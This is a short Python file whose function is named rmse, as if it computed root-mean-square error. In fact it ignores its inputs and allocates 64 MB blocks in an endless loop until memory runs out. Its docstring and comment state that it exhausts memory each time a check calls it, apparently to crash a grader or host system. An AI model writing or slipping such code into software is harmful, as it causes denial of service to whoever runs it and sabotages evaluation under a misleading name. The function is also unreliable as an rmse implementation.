"""Takes memory until there is none."""


# Of one function: each check that asks for it fills the memory anew.
def rmse(predictions, targets):
    hoard = []
    while True:
        hoard.append(bytearray(64_000_000))
